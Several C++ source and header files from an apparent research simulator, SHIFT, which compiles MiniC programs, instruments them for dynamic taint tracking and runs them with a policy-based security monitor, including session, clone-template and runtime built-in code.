    if (!s.jitdump) {
        std::fprintf(s.file, "%llx %zx %s\n",
                     (unsigned long long)(uintptr_t)code, size,
                     symbol.c_str());
        std::fflush(s.file);
        return;
    }
    JitdumpRecordHeader rec = {};
    rec.id = 0; // JIT_CODE_LOAD
    rec.timestamp = monotonicNanos();
    JitdumpCodeLoad load = {};
#if SHIFT_PERFMAP_POSIX
    load.pid = uint32_t(getpid());
    load.tid = load.pid;
#endif
    load.vma = uint64_t(uintptr_t(code));
    load.codeAddr = load.vma;
    load.codeSize = size;
    load.codeIndex = s.codeIndex++;
    rec.totalSize = uint32_t(sizeof(rec) + sizeof(load) +
                             symbol.size() + 1 + size);
    std::fwrite(&rec, sizeof(rec), 1, s.file);
    std::fwrite(&load, sizeof(load), 1, s.file);
    std::fwrite(symbol.c_str(), symbol.size() + 1, 1, s.file);
    std::fwrite(code, size, 1, s.file);
    std::fflush(s.file);
}

} // namespace shift::obs
