/**
 * @file
 * Session: the top-level SHIFT API.
 *
 * A Session compiles MiniC sources (with the MiniC libc), applies the
 * selected tracking mode (none / SHIFT / software-DIFT baseline),
 * builds a machine with the simulated OS and runtime, wires taint
 * sources and the security monitor per the policy configuration, and
 * runs the program. This is the interface examples, tests and every
 * benchmark harness use.
 *
 *   PolicyConfig policy = PolicyConfig::fromText(
 *       "[sources]\nnetwork = taint\n[policies]\nH1 = on\n");
 *   Session session({appSource}, {.mode = TrackingMode::Shift,
 *                                 .policy = policy});
 *   session.os().addFile("/www/index.html", "hello");
 *   RunResult result = session.run();
 */

#ifndef SHIFT_RUNTIME_SESSION_HH
#define SHIFT_RUNTIME_SESSION_HH

#include <memory>
#include <string>
#include <vector>

#include "baseline/software_dift.hh"
#include "core/instrument.hh"
#include "dift/tier.hh"
#include "lang/speculate.hh"
#include "opt/instr_opt.hh"
#include "core/policy.hh"
#include "core/taint_map.hh"
#include "isa/program.hh"
#include "runtime/builtins.hh"
#include "sim/machine.hh"
#include "sim/os.hh"

namespace shift
{

/** How (and whether) information flow is tracked. */
enum class TrackingMode
{
    None,         ///< plain execution (the "original GCC" baseline)
    Shift,        ///< the paper's system
    SoftwareDift, ///< LIFT-style software-only DIFT comparison
};

/** Session construction options. */
struct SessionOptions
{
    TrackingMode mode = TrackingMode::Shift;
    PolicyConfig policy;
    CpuFeatures features;            ///< architectural enhancements
    ExecEngine engine = ExecEngine::Predecoded; ///< interpreter engine
    InstrumentOptions instr;         ///< granularity is taken from policy
    OptimizerOptions optimize;       ///< post-instrumentation optimizer
    BaselineOptions baseline;        ///< for SoftwareDift mode
    bool includeStdlib = true;
    uint64_t maxSteps = 2'000'000'000ULL;

    /**
     * Run taint-clean superblocks through the dual-version fast tier
     * (predecoded engine only; see docs/FAST-PATH.md). Off by default:
     * the fast tier elides the taint instrumentation's architectural
     * work on clean data, so simulated instruction/cycle counts drop
     * relative to the always-instrumented stream — opt in where that
     * is the point (serving fleets), leave off for cost-model studies.
     */
    bool fastPath = false;

    /**
     * Compile hot functions to host code (docs/JIT.md). Simulated
     * numbers (instructions, cycles, taint state, verdicts) are
     * bit-identical to the interpreter — only host throughput changes
     * — so this is safe anywhere; it defaults off to keep single-run
     * benchmarks honest about what they measure. Silent no-op on
     * hosts/builds where Machine::jitAvailable() is false.
     */
    bool jit = false;
    uint32_t jitThreshold = 0;  ///< promotion threshold, 0 = default
    size_t jitCacheBytes = 0;   ///< code-cache byte budget, 0 = default
    bool jitBackground = false; ///< compile on a worker thread
    bool jitLazy = false;       ///< per-superblock lazy compilation

    /**
     * Attach the tier-attribution profiler: the run's StatSet gains
     * the `prof.*` family — host-time attribution across
     * interpreter / fast-path / JIT / async-publish / compile /
     * builtin tiers, per {function, pc} site (docs/OBSERVABILITY.md).
     * Composes with every mode including the JIT; disabled it costs
     * nothing (separate interpreter instantiation, enforced by
     * perf-smoke-prof).
     */
    bool profile = false;

    /** Apply the control-speculation optimizer before tracking. */
    bool speculate = false;
    minic::SpeculateOptions speculateOptions;

    /**
     * Decouple taint propagation onto the async tier: the engine
     * streams events into a bounded ring and a consumer thread replays
     * them against a shadow bitmap, synchronizing only at policy-check
     * points (see docs/ASYNC-TAINT.md). Shift mode + predecoded engine
     * only; mutually exclusive with fastPath and speculate.
     */
    dift::AsyncTaintOptions async;
};

namespace detail
{

/**
 * Compile + optional speculation + instrumentation: the build-front
 * half of a Session, shared with SessionTemplate. Mutates `options`
 * (granularity and feature switches propagate into the instrumenter
 * options, exactly as Session::build always did).
 */
Program buildProgram(const std::vector<std::string> &sources,
                     SessionOptions &options, InstrumentStats &instrStats,
                     minic::SpeculateStats &speculateStats,
                     OptStats &optStats);

/**
 * Per-machine runtime wiring: built-ins, taint-source input hook,
 * NaT-fault security monitor and syscall handler. `taint` and
 * `policy` are null when tracking is off; all referenced objects must
 * outlive the machine.
 */
void wireRuntime(Machine &machine, Os &os, TaintMap *taint,
                 PolicyEngine *policy, TrackingMode mode,
                 RuntimeContext &ctx);

} // namespace detail

/** One compile+instrument+run pipeline instance. */
class Session
{
  public:
    Session(const std::vector<std::string> &sources,
            SessionOptions options);

    /** Convenience: single source module. */
    Session(const std::string &source, SessionOptions options);

    // The machine holds pointers into this object (the program, the
    // runtime context): a Session is pinned to its address.
    Session(const Session &) = delete;
    Session &operator=(const Session &) = delete;

    /**
     * Execute to completion. May only be called once: a second call
     * is a FatalError (the machine has been consumed). To run one
     * program many times, build a SessionTemplate and instantiate a
     * clone per run.
     */
    RunResult run();

    Machine &machine() { return *machine_; }
    Os &os() { return os_; }
    TaintMap &taint() { return *taint_; }
    PolicyEngine &policy() { return *policy_; }
    const Program &program() const { return program_; }
    const InstrumentStats &instrStats() const { return instrStats_; }
    const minic::SpeculateStats &speculateStats() const
    {
        return speculateStats_;
    }
    const OptStats &optStats() const { return optStats_; }
    const SessionOptions &options() const { return options_; }

    /** Async tier, or null when options.async.enabled is false. */
    dift::AsyncTaintTier *asyncTier() { return asyncTier_.get(); }

  private:
    void build(const std::vector<std::string> &sources);

    SessionOptions options_;
    Program program_;
    InstrumentStats instrStats_;
    minic::SpeculateStats speculateStats_;
    OptStats optStats_;
    Os os_;
    std::unique_ptr<Machine> machine_;
    std::unique_ptr<obs::Profiler> profiler_;
    std::unique_ptr<dift::AsyncTaintTier> asyncTier_;
    std::unique_ptr<TaintMap> taint_;
    std::unique_ptr<PolicyEngine> policy_;
    RuntimeContext runtimeCtx_;
    bool ran_ = false;
};

} // namespace shift

#endif // SHIFT_RUNTIME_SESSION_HH
