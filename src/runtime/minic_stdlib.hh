/**
 * @file
 * The MiniC standard library source.
 *
 * String and memory routines are written in MiniC and compiled +
 * instrumented together with application code, exactly as the paper
 * instrumented glibc: taint then flows through strcpy/memcpy/... via
 * the ordinary load/store instrumentation, no summaries needed. Only
 * functions that cannot be expressed in MiniC (I/O, variadic sprintf,
 * allocation) are native built-ins with hand-written taint summaries
 * — the analogue of the paper's ~17 wrap functions for assembly code.
 */

#ifndef SHIFT_RUNTIME_MINIC_STDLIB_HH
#define SHIFT_RUNTIME_MINIC_STDLIB_HH

namespace shift
{

/** MiniC source text of the standard library. */
extern const char *const kMiniCStdlib;

} // namespace shift

#endif // SHIFT_RUNTIME_MINIC_STDLIB_HH
