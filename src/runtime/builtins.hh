/**
 * @file
 * Native runtime built-ins ("wrap functions").
 *
 * Everything MiniC code cannot express — I/O, allocation, variadic
 * formatting, the security-sensitive sinks (system, sql_exec) — is a
 * native built-in. Each built-in carries a hand-written taint summary
 * that keeps the bitmap and register NaT bits coherent, mirroring the
 * paper's wrap functions for untransformed assembly routines
 * (section 4.2).
 *
 * Security-sensitive built-ins consult the policy engine before
 * acting, implementing the high-level policies H1-H5 at the exact
 * boundaries the paper names (fopen arguments, SQL strings, system()
 * arguments, HTML output).
 */

#ifndef SHIFT_RUNTIME_BUILTINS_HH
#define SHIFT_RUNTIME_BUILTINS_HH

#include "core/policy.hh"
#include "core/taint_map.hh"
#include "sim/machine.hh"
#include "sim/os.hh"

namespace shift
{

/** Shared context the built-ins close over. */
struct RuntimeContext
{
    Os *os = nullptr;
    TaintMap *taint = nullptr;        ///< null when tracking is off
    PolicyEngine *policy = nullptr;   ///< null when tracking is off

    /** True when taint tracking (and thus policy checking) is active. */
    bool tracking() const { return taint != nullptr && policy != nullptr; }
};

/**
 * Register every built-in on the machine. The context must outlive the
 * machine. The built-ins:
 *
 *   exit(code)                         terminate
 *   print(s) / print_num(n)            write to stdout
 *   open(path, flags) -> fd            H1/H2 checked when tracking
 *   read(fd, buf, len) -> n            taints per [sources]
 *   write(fd, buf, len) -> n
 *   close(fd) -> 0/-1
 *   accept() -> fd | -1
 *   recv/send                          socket aliases; send checks H5
 *   file_size(path) -> n | -1
 *   malloc(n) -> p, free(p)
 *   sprintf(buf, fmt, ...) -> len      %s %d %c %x, taint-propagating
 *   sql_exec(query) -> 0               H3 checked
 *   system(cmd) -> 0                   H4 checked
 *   html_write(s) -> len               H5 checked, then stdout
 *   __taint(buf, len)                  test helper: mark tainted
 *   __untaint(buf, len)                test helper: clear taint
 *   __mem_tainted(addr) -> 0/1         test helper: query the bitmap
 *   __arg_tainted(x) -> 0/1            test helper: query register NaT
 */
void registerRuntimeBuiltins(Machine &machine, RuntimeContext &ctx);

} // namespace shift

#endif // SHIFT_RUNTIME_BUILTINS_HH
