#include "session_template.hh"

#include "obs/trace.hh"
#include "support/logging.hh"

namespace shift
{

SessionTemplate::SessionTemplate(const std::vector<std::string> &sources,
                                 SessionOptions options)
    : options_(std::move(options))
{
    program_ = detail::buildProgram(sources, options_, instrStats_,
                                    speculateStats_, optStats_);
    proto_ = std::make_unique<Machine>(program_, options_.features,
                                       options_.engine);
    // The prototype's settings determine what capture() puts in the
    // snapshot: with the JIT on, the eagerly-created code cache rides
    // along so the whole fleet shares one set of compiled bodies.
    proto_->setFastPathEnabled(options_.fastPath);
    proto_->setJitEnabled(options_.jit, options_.jitThreshold,
                          options_.jitCacheBytes, options_.jitBackground,
                          options_.jitLazy);
}

SessionTemplate::SessionTemplate(const std::string &source,
                                 SessionOptions options)
    : SessionTemplate(std::vector<std::string>{source}, std::move(options))
{
}

Os &
SessionTemplate::os()
{
    if (frozen()) {
        SHIFT_FATAL("SessionTemplate is frozen: provisioning the "
                    "prototype OS after the first instantiate() would "
                    "make clones diverge");
    }
    return protoOs_;
}

void
SessionTemplate::freeze()
{
    std::lock_guard<std::mutex> lock(freezeMutex_);
    if (frozen_.load(std::memory_order_relaxed))
        return;
    obs::ScopedPhase span(obs::Phase::Freeze);
    snapshot_ = proto_->capture();
    // The prototype machine exists only to be snapshotted; dropping it
    // leaves the snapshot holding the only extra reference to every
    // page, so a clone's first write to any page still COWs correctly.
    proto_.reset();
    frozen_.store(true, std::memory_order_release);
}

std::unique_ptr<SessionClone>
SessionTemplate::instantiate()
{
    freeze();
    int id = nextCloneId_.fetch_add(1, std::memory_order_relaxed);
    // No make_unique: the constructor is private to enforce that only
    // templates fork clones.
    return std::unique_ptr<SessionClone>(new SessionClone(*this, id));
}

size_t
SessionTemplate::snapshotPages() const
{
    return snapshot_ ? snapshot_->mem.pageCount() : 0;
}

SessionClone::SessionClone(const SessionTemplate &tmpl, int cloneId)
    : tmpl_(&tmpl), cloneId_(cloneId), os_(tmpl.protoOs_)
{
    SHIFT_ASSERT(tmpl.snapshot_, "template not frozen");
    obs::ScopedPhase span(obs::Phase::Clone);
    machine_ = std::make_unique<Machine>(tmpl.program_, *tmpl.snapshot_,
                                         tmpl.options_.features,
                                         tmpl.options_.engine);
    if (tmpl.options_.async.enabled) {
        // One ring + consumer thread per clone: each clone's event
        // stream is private, so a fleet runs N decoupled pairs whose
        // dift.* stats merge in the fleet report.
        asyncTier_ = std::make_unique<dift::AsyncTaintTier>(
            machine_->memory(), tmpl.options_.policy.granularity,
            tmpl.options_.async);
        machine_->setAsyncTier(asyncTier_.get());
    }
    machine_->setFastPathEnabled(tmpl.options_.fastPath);
    // The snapshot already carries the template's shared code cache
    // when the JIT is on; this validates/adopts it (and is the off
    // switch when it is not).
    machine_->setJitEnabled(tmpl.options_.jit, tmpl.options_.jitThreshold,
                            tmpl.options_.jitCacheBytes,
                            tmpl.options_.jitBackground,
                            tmpl.options_.jitLazy);
    if (tmpl.options_.profile) {
        // Private table per clone: run() folds it into the clone's
        // RunResult stats, so the fleet report's prof.* rows are the
        // ordinary associative StatSet merge across clones.
        profiler_ = std::make_unique<obs::Profiler>();
        machine_->setProfiler(profiler_.get());
    }
    if (obs::Recorder *rec = obs::Recorder::active()) {
        std::vector<std::string> names;
        for (const auto &fn : tmpl.program_.functions)
            names.push_back(fn.name);
        rec->setFunctionNames(std::move(names));
        machine_->setObserver(rec->acquireBuffer(cloneId));
    }
    policy_ = std::make_unique<PolicyEngine>(tmpl.options_.policy);
    bool tracking = tmpl.options_.mode != TrackingMode::None;
    if (tracking) {
        taint_ = std::make_unique<TaintMap>(
            machine_->memory(), tmpl.options_.policy.granularity);
        if (asyncTier_) {
            taint_->setMirror([tier = asyncTier_.get()](
                                  uint64_t tagAddr, unsigned bitIdx,
                                  bool value) {
                tier->mirrorTagWrite(tagAddr, bitIdx, value);
            });
        }
    }
    detail::wireRuntime(*machine_, os_, tracking ? taint_.get() : nullptr,
                        tracking ? policy_.get() : nullptr,
                        tmpl.options_.mode, runtimeCtx_);
}

RunResult
SessionClone::run()
{
    if (ran_) {
        SHIFT_FATAL("SessionClone::run() called twice: clone %d has been "
                    "consumed (instantiate() a new one)",
                    cloneId_);
    }
    ran_ = true;
    setLogCloneTag(cloneId_);
    RunResult result = [&] {
        obs::ScopedPhase span(obs::Phase::Run);
        return machine_->run(tmpl_->options_.maxSteps);
    }();
    setLogCloneTag(-1);
    return result;
}

} // namespace shift
