/**
 * @file
 * SessionTemplate: the compile-once / clone-many half of the runtime.
 *
 * A Session fuses compile, instrument, machine construction and run
 * into one single-use object; a fleet serving N requests through it
 * pays the compiler and the decoder N times. SessionTemplate splits
 * that pipeline: it compiles and instruments the program once, builds
 * a prototype machine, and freezes a MachineSnapshot of the pre-run
 * state (COW-shared pages, registers and NaT bits, the shared decode
 * result). instantiate() then forks an isolated, runnable
 * SessionClone in O(pages-map) time — clones share all unmodified
 * pages and copy only what they dirty, so they are safe to run
 * concurrently on separate threads (see docs/FLEET.md).
 *
 *   SessionTemplate tmpl({appSource}, options);
 *   tmpl.os().addFile("/www/index.html", "hello");   // provision, then
 *   auto a = tmpl.instantiate();                     // freeze + fork
 *   auto b = tmpl.instantiate();
 *   RunResult ra = a->run(), rb = b->run();          // independent
 *
 * Determinism contract: a clone's run is bit-identical (cycles,
 * verdicts, response bytes) to a fresh single-use Session built from
 * the same sources and options, and clones never observe each other.
 */

#ifndef SHIFT_RUNTIME_SESSION_TEMPLATE_HH
#define SHIFT_RUNTIME_SESSION_TEMPLATE_HH

#include <atomic>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <vector>

#include "runtime/session.hh"

namespace shift
{

class SessionTemplate;

/**
 * One runnable instance forked from a SessionTemplate: its own OS
 * (copied from the template's provisioned prototype), its own machine
 * restored from the frozen snapshot, and its own taint map and policy
 * engine. Single-use, like Session. Clones hold a reference to their
 * template, which must outlive them.
 */
class SessionClone
{
  public:
    // The machine holds pointers into this object: pinned, like Session.
    SessionClone(const SessionClone &) = delete;
    SessionClone &operator=(const SessionClone &) = delete;

    /**
     * Execute to completion; may only be called once (FatalError on a
     * second call). While running, warn()/inform() output from this
     * thread is tagged "[clone N]".
     */
    RunResult run();

    int cloneId() const { return cloneId_; }
    Machine &machine() { return *machine_; }
    Os &os() { return os_; }
    PolicyEngine &policy() { return *policy_; }

  private:
    friend class SessionTemplate;
    SessionClone(const SessionTemplate &tmpl, int cloneId);

    const SessionTemplate *tmpl_;
    int cloneId_;
    Os os_;
    std::unique_ptr<Machine> machine_;
    /** Per-clone attribution table (null unless options.profile);
     * folds into the clone's RunResult stats, so fleet aggregation is
     * the ordinary associative StatSet merge. */
    std::unique_ptr<obs::Profiler> profiler_;
    /** Per-clone ring + consumer thread (null unless options.async). */
    std::unique_ptr<dift::AsyncTaintTier> asyncTier_;
    std::unique_ptr<TaintMap> taint_;
    std::unique_ptr<PolicyEngine> policy_;
    RuntimeContext runtimeCtx_;
    bool ran_ = false;
};

/** Compile-once factory for SessionClones. */
class SessionTemplate
{
  public:
    SessionTemplate(const std::vector<std::string> &sources,
                    SessionOptions options);

    /** Convenience: single source module. */
    SessionTemplate(const std::string &source, SessionOptions options);

    // Clones point back into this object (program, snapshot pages).
    SessionTemplate(const SessionTemplate &) = delete;
    SessionTemplate &operator=(const SessionTemplate &) = delete;

    /**
     * The prototype OS: provision files / queue connections here
     * BEFORE the first instantiate(); every clone starts from a copy.
     * Provisioning after freeze() is a FatalError — clones forked
     * earlier could otherwise diverge from later ones.
     */
    Os &os();

    /**
     * Capture the snapshot and lock provisioning. Idempotent and
     * thread-safe; called implicitly by the first instantiate().
     */
    void freeze();

    /** Fork a runnable clone (freezes on first use). Thread-safe. */
    std::unique_ptr<SessionClone> instantiate();

    const Program &program() const { return program_; }
    const InstrumentStats &instrStats() const { return instrStats_; }
    const OptStats &optStats() const { return optStats_; }
    const minic::SpeculateStats &speculateStats() const
    {
        return speculateStats_;
    }
    const SessionOptions &options() const { return options_; }
    bool frozen() const { return frozen_.load(std::memory_order_acquire); }

    /** Pages in the frozen snapshot (0 before freeze). */
    size_t snapshotPages() const;

  private:
    friend class SessionClone;

    SessionOptions options_;
    Program program_;
    InstrumentStats instrStats_;
    minic::SpeculateStats speculateStats_;
    OptStats optStats_;

    /** Provisioned prototype OS, copied into each clone. */
    Os protoOs_;
    /** Prototype machine; consumed by freeze() to take the snapshot. */
    std::unique_ptr<Machine> proto_;

    std::mutex freezeMutex_;
    std::atomic<bool> frozen_{false};
    std::optional<MachineSnapshot> snapshot_;
    std::atomic<int> nextCloneId_{0};
};

} // namespace shift

#endif // SHIFT_RUNTIME_SESSION_TEMPLATE_HH
