#include "session.hh"

#include "lang/compiler.hh"
#include "runtime/minic_stdlib.hh"
#include "support/logging.hh"

namespace shift
{

Session::Session(const std::vector<std::string> &sources,
                 SessionOptions options)
    : options_(std::move(options))
{
    build(sources);
}

Session::Session(const std::string &source, SessionOptions options)
    : options_(std::move(options))
{
    build({source});
}

void
Session::build(const std::vector<std::string> &sources)
{
    // 1. Compile (application + MiniC libc in one link).
    std::vector<std::string> modules;
    if (options_.includeStdlib)
        modules.push_back(kMiniCStdlib);
    modules.insert(modules.end(), sources.begin(), sources.end());
    program_ = minic::compileProgram(modules);

    // Optional compiler optimization: control speculation. Runs
    // before instrumentation, exactly as a speculating compiler would
    // emit ld.s/chk.s before SHIFT's GCC phase sees the code.
    if (options_.speculate) {
        speculateStats_ =
            minic::speculateLoads(program_, options_.speculateOptions);
    }

    // 2. Instrument per tracking mode. Granularity follows the policy
    // configuration so instrumented code and native taint summaries
    // always agree on the bitmap layout.
    switch (options_.mode) {
      case TrackingMode::None:
        break;
      case TrackingMode::Shift: {
        options_.instr.granularity = options_.policy.granularity;
        options_.instr.natSetClear = options_.features.natSetClear;
        options_.instr.natAwareCompare = options_.features.natAwareCompare;
        instrStats_ = instrumentProgram(program_, options_.instr);
        break;
      }
      case TrackingMode::SoftwareDift: {
        options_.baseline.granularity = options_.policy.granularity;
        instrStats_ = instrumentSoftwareDift(program_, options_.baseline);
        break;
      }
    }

    // 3. Machine + runtime wiring.
    machine_ = std::make_unique<Machine>(program_, options_.features,
                                         options_.engine);
    policy_ = std::make_unique<PolicyEngine>(options_.policy);
    bool tracking = options_.mode != TrackingMode::None;
    if (tracking) {
        taint_ = std::make_unique<TaintMap>(machine_->memory(),
                                            options_.policy.granularity);
    }

    runtimeCtx_.os = &os_;
    runtimeCtx_.taint = tracking ? taint_.get() : nullptr;
    runtimeCtx_.policy = tracking ? policy_.get() : nullptr;
    registerRuntimeBuiltins(*machine_, runtimeCtx_);

    // 4. Taint sources: OS input lands tainted per [sources].
    if (tracking) {
        TaintMap *tm = taint_.get();
        PolicyEngine *pe = policy_.get();
        os_.setInputHook([tm, pe](Machine &, uint64_t addr, uint64_t len,
                                  const std::string &channel) {
            if (pe->taintChannel(channel))
                tm->taint(addr, len);
            else
                tm->clear(addr, len);
        });
    }

    // 5. Security monitor: NaT-consumption faults become L1-L3 alerts
    // (SHIFT mode; the software baseline traps through syscall 99).
    if (options_.mode == TrackingMode::Shift) {
        PolicyEngine *pe = policy_.get();
        machine_->setNatFaultHandler(
            [pe](Machine &, const Fault &fault) {
                return pe->natFaultAlert(fault);
            });
    }

    machine_->setSyscallHandler([this](Machine &m, int64_t number) {
        if (number == kDiftAlertSyscall) {
            Fault fault;
            fault.kind = FaultKind::NatConsumption;
            int64_t reason = static_cast<int64_t>(
                m.gprVal(kDiftAlertReasonReg));
            fault.context = reason == kDiftAlertStore
                                ? FaultContext::StoreAddress
                                : FaultContext::LoadAddress;
            fault.detail = "software DIFT address check";
            auto alert = policy_->natFaultAlert(fault);
            if (alert)
                m.raiseAlert(std::move(*alert),
                             policy_->config().alertKills);
            return;
        }
        SHIFT_FATAL("unknown system call %lld",
                    static_cast<long long>(number));
    });
}

RunResult
Session::run()
{
    return machine_->run(options_.maxSteps);
}

} // namespace shift
