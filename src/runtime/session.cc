#include "session.hh"

#include "dift/annotate.hh"
#include "lang/compiler.hh"
#include "obs/trace.hh"
#include "runtime/minic_stdlib.hh"
#include "support/logging.hh"

namespace shift
{

namespace detail
{

Program
buildProgram(const std::vector<std::string> &sources,
             SessionOptions &options, InstrumentStats &instrStats,
             minic::SpeculateStats &speculateStats, OptStats &optStats)
{
    // 1. Compile (application + MiniC libc in one link).
    std::vector<std::string> modules;
    if (options.includeStdlib)
        modules.push_back(kMiniCStdlib);
    modules.insert(modules.end(), sources.begin(), sources.end());
    Program program = [&] {
        obs::ScopedPhase span(obs::Phase::Compile);
        return minic::compileProgram(modules);
    }();

    // Optional compiler optimization: control speculation. Runs
    // before instrumentation, exactly as a speculating compiler would
    // emit ld.s/chk.s before SHIFT's GCC phase sees the code.
    if (options.speculate) {
        obs::ScopedPhase span(obs::Phase::Speculate);
        speculateStats = minic::speculateLoads(program,
                                               options.speculateOptions);
    }

    // Async-tier option screening happens here so Session and
    // SessionTemplate reject bad combinations identically.
    if (options.async.enabled) {
        std::string problem = dift::validateAsyncOptions(options.async);
        if (!problem.empty())
            SHIFT_FATAL("async taint: %s", problem.c_str());
        if (options.mode != TrackingMode::Shift)
            SHIFT_FATAL("async taint requires TrackingMode::Shift");
        if (options.engine != ExecEngine::Predecoded)
            SHIFT_FATAL("async taint requires the predecoded engine");
        if (options.fastPath) {
            SHIFT_FATAL("async taint is incompatible with the fast "
                        "path (both replace the inline taint tier)");
        }
        if (options.speculate) {
            SHIFT_FATAL("async taint is incompatible with control "
                        "speculation (ld.s defers faults into NaT "
                        "bits the event stream does not model)");
        }
    }

    // 2. Instrument per tracking mode. Granularity follows the policy
    // configuration so instrumented code and native taint summaries
    // always agree on the bitmap layout.
    switch (options.mode) {
      case TrackingMode::None:
        break;
      case TrackingMode::Shift: {
        options.instr.granularity = options.policy.granularity;
        options.instr.natSetClear = options.features.natSetClear;
        options.instr.natAwareCompare = options.features.natAwareCompare;
        if (options.async.enabled) {
            // Async tier: no inline instrumentation at all. The
            // program is only annotated (load/store/compare scoping
            // recorded in Instr::p1, compare markers inserted) and the
            // consumer thread replays the instrumenter's semantics.
            dift::AnnotateOptions ann;
            ann.instrumentLoads = options.instr.instrumentLoads;
            ann.instrumentStores = options.instr.instrumentStores;
            ann.instrumentCompares = options.instr.instrumentCompares;
            ann.relaxLoadAddress = options.instr.relaxLoadAddress;
            ann.relaxLoadFunctions = options.instr.relaxLoadFunctions;
            ann.relaxStoreFunctions = options.instr.relaxStoreFunctions;
            ann.cmpTaintAlert = options.instr.cmpTaintAlert;
            ann.cmpTaintAlertFunctions =
                options.instr.cmpTaintAlertFunctions;
            obs::ScopedPhase span(obs::Phase::Instrument);
            dift::AnnotateStats astats = annotateForAsync(program, ann);
            instrStats.loads = astats.checkedLoads + astats.relaxedLoads;
            instrStats.stores = astats.trackedStores + astats.relaxedStores;
            instrStats.compares = astats.cmpMarkers;
            instrStats.purifies = astats.zeroIdioms;
            instrStats.added = astats.cmpMarkers;
            break;
        }
        {
            obs::ScopedPhase span(obs::Phase::Instrument);
            instrStats = instrumentProgram(program, options.instr);
        }
        // 3. Post-instrumentation optimizer: deletes redundant taint
        // work the peephole instrumenter emitted (no-op unless
        // options.optimize.enable). SHIFT sequences only; the
        // software baseline keeps its literal instruction stream.
        {
            obs::ScopedPhase span(obs::Phase::Optimize);
            optStats = optimizeInstrumentation(program, options.optimize);
        }
        break;
      }
      case TrackingMode::SoftwareDift: {
        options.baseline.granularity = options.policy.granularity;
        obs::ScopedPhase span(obs::Phase::Instrument);
        instrStats = instrumentSoftwareDift(program, options.baseline);
        break;
      }
    }
    return program;
}

void
wireRuntime(Machine &machine, Os &os, TaintMap *taint,
            PolicyEngine *policy, TrackingMode mode, RuntimeContext &ctx)
{
    bool tracking = taint != nullptr && policy != nullptr;

    ctx.os = &os;
    ctx.taint = taint;
    ctx.policy = policy;
    registerRuntimeBuiltins(machine, ctx);

    // Taint sources: OS input lands tainted per [sources].
    if (tracking) {
        os.setInputHook([taint, policy](Machine &m, uint64_t addr,
                                        uint64_t len,
                                        const std::string &channel) {
            if (policy->taintChannel(channel)) {
                taint->taint(addr, len);
                // Provenance chains start here: the syscall that let
                // tainted bytes into the address space.
                if (obs::TraceBuffer *b = m.observer())
                    b->emit(obs::Ev::TaintSource,
                            obs::packChannel(channel),
                            m.currentFunction(), m.currentPc(), addr,
                            len);
            } else {
                taint->clear(addr, len);
            }
        });
    }

    // Security monitor: NaT-consumption faults become L1-L3 alerts
    // (SHIFT mode; the software baseline traps through syscall 99).
    if (mode == TrackingMode::Shift && policy) {
        machine.setNatFaultHandler(
            [policy](Machine &, const Fault &fault) {
                return policy->natFaultAlert(fault);
            });
    }

    machine.setSyscallHandler([policy](Machine &m, int64_t number) {
        if (number == kDiftAlertSyscall) {
            if (!policy)
                return;
            Fault fault;
            fault.kind = FaultKind::NatConsumption;
            int64_t reason = static_cast<int64_t>(
                m.gprVal(kDiftAlertReasonReg));
            fault.context = reason == kDiftAlertStore
                                ? FaultContext::StoreAddress
                                : FaultContext::LoadAddress;
            fault.detail = "software DIFT address check";
            auto alert = policy->natFaultAlert(fault);
            if (alert)
                m.raiseAlert(std::move(*alert),
                             policy->config().alertKills);
            return;
        }
        SHIFT_FATAL("unknown system call %lld",
                    static_cast<long long>(number));
    });
}

} // namespace detail

Session::Session(const std::vector<std::string> &sources,
                 SessionOptions options)
    : options_(std::move(options))
{
    build(sources);
}

Session::Session(const std::string &source, SessionOptions options)
    : options_(std::move(options))
{
    build({source});
}

void
Session::build(const std::vector<std::string> &sources)
{
    program_ = detail::buildProgram(sources, options_, instrStats_,
                                    speculateStats_, optStats_);

    // Machine + runtime wiring.
    {
        obs::ScopedPhase span(obs::Phase::Decode);
        machine_ = std::make_unique<Machine>(program_, options_.features,
                                             options_.engine);
    }
    if (options_.async.enabled) {
        asyncTier_ = std::make_unique<dift::AsyncTaintTier>(
            machine_->memory(), options_.policy.granularity,
            options_.async);
        machine_->setAsyncTier(asyncTier_.get());
    }
    machine_->setFastPathEnabled(options_.fastPath);
    machine_->setJitEnabled(options_.jit, options_.jitThreshold,
                            options_.jitCacheBytes,
                            options_.jitBackground, options_.jitLazy);
    if (options_.profile) {
        profiler_ = std::make_unique<obs::Profiler>();
        machine_->setProfiler(profiler_.get());
    }
    if (obs::Recorder *rec = obs::Recorder::active()) {
        std::vector<std::string> names;
        for (const auto &fn : program_.functions)
            names.push_back(fn.name);
        rec->setFunctionNames(std::move(names));
        machine_->setObserver(rec->acquireBuffer(-1));
    }
    policy_ = std::make_unique<PolicyEngine>(options_.policy);
    bool tracking = options_.mode != TrackingMode::None;
    if (tracking) {
        taint_ = std::make_unique<TaintMap>(machine_->memory(),
                                            options_.policy.granularity);
        if (asyncTier_) {
            // Host-side taint writes (input hooks, wrap functions)
            // must reach the consumer's shadow too; they only happen
            // while it is quiesced (builtin/syscall fences).
            taint_->setMirror([tier = asyncTier_.get()](
                                  uint64_t tagAddr, unsigned bitIdx,
                                  bool value) {
                tier->mirrorTagWrite(tagAddr, bitIdx, value);
            });
        }
    }
    detail::wireRuntime(*machine_, os_, tracking ? taint_.get() : nullptr,
                        tracking ? policy_.get() : nullptr, options_.mode,
                        runtimeCtx_);
}

RunResult
Session::run()
{
    if (ran_) {
        SHIFT_FATAL("Session::run() called twice: the machine has been "
                    "consumed (use a SessionTemplate to run a program "
                    "more than once)");
    }
    ran_ = true;
    obs::ScopedPhase span(obs::Phase::Run);
    return machine_->run(options_.maxSteps);
}

} // namespace shift
