#include "builtins.hh"

#include <string>
#include <vector>

#include "obs/trace.hh"
#include "support/logging.hh"

namespace shift
{

namespace
{

/** Read a NUL-terminated string argument from simulated memory. */
std::string
readString(Machine &m, uint64_t addr)
{
    std::string out;
    if (m.memory().readCString(addr, out) != MemFault::None)
        SHIFT_FATAL("built-in: bad string pointer 0x%llx",
                    static_cast<unsigned long long>(addr));
    return out;
}

/** Per-byte taint of a string (empty when tracking is off). */
std::vector<bool>
taintOf(const RuntimeContext &ctx, uint64_t addr, const std::string &s)
{
    if (!ctx.tracking())
        return {};
    return ctx.taint->taintOf(addr, s.size());
}

/**
 * Policy-gated check on pointer arguments crossing the OS boundary:
 * a tainted (NaT) pointer handed to a "system call" raises the
 * SyscallArg NaT-consumption fault — the L3 family. Returns true when
 * the call must be aborted.
 */
bool
